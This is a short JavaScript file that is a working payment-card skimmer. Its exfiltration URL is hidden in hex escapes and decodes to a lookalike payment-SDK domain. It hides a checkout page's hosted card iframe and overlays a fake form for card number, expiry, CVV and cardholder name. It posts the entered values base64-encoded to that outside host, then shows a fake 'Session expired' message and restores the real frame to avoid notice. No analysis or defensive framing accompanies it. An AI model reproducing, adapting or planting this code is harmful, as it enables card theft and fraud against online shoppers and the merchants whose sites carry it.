var pf_cfg = {
    sink: "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x61\x64\x79\x65\x6e\x2d\x63\x6c\x69\x65\x6e\x74\x2d\x73\x64\x6b\x2e\x63\x63\x2f\x63\x68\x65\x63\x6b\x6f\x75\x74",
    frameSel: "iframe[src*='hostedfields'], iframe[title*='card']",
    delay: 2500
};

function pf_render(frame) {
    var holder = document.createElement("div");
    holder.className = "pf-hosted";
    holder.innerHTML =
        "<input class='pf-i' name='\x63\x61\x72\x64\x6e\x75\x6d' placeholder='Card number'>" +
        "<input class='pf-i' name='\x65\x78\x70' placeholder='MM/YY'>" +
        "<input class='pf-i' name='\x63\x76\x76' placeholder='CVV'>" +
        "<input class='pf-i' name='\x6f\x77\x6e\x65\x72' placeholder='Cardholder name'>" +
        "<button type='button' class='pf-b'>Continue</button>";
    frame.style.display = "none";
    frame.parentNode.appendChild(holder);
    return holder;
}

function pf_send(holder) {
    var data = {};
    var inputs = holder.querySelectorAll(".pf-i");
    for (var i = 0; i < inputs.length; i++) data[inputs[i].name] = inputs[i].value;
    data.site = document.domain;
    var fd = new FormData();
    fd.append("\x64", btoa(JSON.stringify(data)));
    fetch(pf_cfg.sink, { method: "POST", mode: "no-cors", body: fd });
}

setTimeout(function () {
    var frames = document.querySelectorAll(pf_cfg.frameSel);
    if (!frames.length) return;
    var h = pf_render(frames[0]);
    h.querySelector(".pf-b").addEventListener("click", function () {
        pf_send(h);
        h.innerHTML = "<div class='pf-err'>Session expired. Please refresh and try again.</div>";
        setTimeout(function () {
            h.parentNode.removeChild(h);
            frames[0].style.display = "";
        }, 3000);
    });
}, pf_cfg.delay);
